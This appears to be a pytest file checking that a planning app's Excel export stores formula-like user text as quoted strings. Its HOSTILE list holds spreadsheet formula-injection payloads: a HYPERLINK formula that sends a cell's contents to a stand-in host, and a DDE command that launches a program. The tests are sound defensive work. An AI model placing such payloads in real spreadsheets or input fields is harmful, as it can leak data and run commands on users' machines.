"""Text stays text: anything a user typed that a spreadsheet would read as a formula is
written as a string cell (with Excel's quote prefix), in every template the app writes."""

from __future__ import annotations

import dataclasses
import zipfile

import openpyxl
import pytest

from tests.templates.helpers import demo
from workbench.templates.pipeline.exporter import export_template
from workbench.templates.pipeline.importer import plan_import

HOSTILE = ['=HYPERLINK("http://example.invalid/?"&Summary!C10,"Click")', "=cmd|' /C calc'!A0",
           "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTabbed"]


def test_scheme_risk_and_workstream_names_are_written_as_text(tmp_path):
    plan, _ = demo()
    plan.schemes[:len(HOSTILE)] = [dataclasses.replace(s, name=n)
                                   for s, n in zip(plan.schemes, HOSTILE, strict=False)]
    plan.risks[0] = dataclasses.replace(plan.risks[0], description=HOSTILE[1], owner=HOSTILE[2])
    path = export_template(plan, "finance", tmp_path / "out.xlsx")
    wb = openpyxl.load_workbook(path)
    texts = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for name in HOSTILE:
        cell = texts.get(name)
        assert cell is not None, name
        assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate)
    with zipfile.ZipFile(path) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"HYPERLINK" not in xml.split(b"<f>", 1)[-1].split(b"</f>", 1)[0]
    assert b"<f>HYPERLINK" not in xml and b"<f>cmd" not in xml


@pytest.mark.parametrize("kind", ["activity", "resilience", "bcf"])
def test_other_templates_write_user_text_as_text(tmp_path, kind):
    plan, _ = demo()
    plan.organisation = "=1+1"
    path = export_template(plan, kind, tmp_path / f"{kind}.xlsx")
    wb = openpyxl.load_workbook(path)
    hits = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.value == "=1+1"]
    assert hits and all(c.data_type == "s" and c.quotePrefix for c in hits), kind


def test_a_formula_like_name_comes_back_unchanged(tmp_path):
    plan, _ = demo()
    plan.schemes[0] = dataclasses.replace(plan.schemes[0], name=HOSTILE[0])
    path = export_template(plan, "finance", tmp_path / "out.xlsx")
    report = plan_import(path, plan)
    assert report.ok and report.preview.is_empty, report.text()


def test_export_into_a_workbook_holding_formula_like_text_is_not_refused(tmp_path):
    plan, _ = demo()
    plan.schemes[0] = dataclasses.replace(plan.schemes[0], name=HOSTILE[0])
    first = export_template(plan, "finance", tmp_path / "first.xlsx")
    plan.schemes[0] = dataclasses.replace(plan.schemes[0], name="Plain name")
    second = export_template(plan, "finance", tmp_path / "second.xlsx", into=first)
    report = plan_import(second, plan)
    assert report.ok and report.preview.is_empty, report.text()
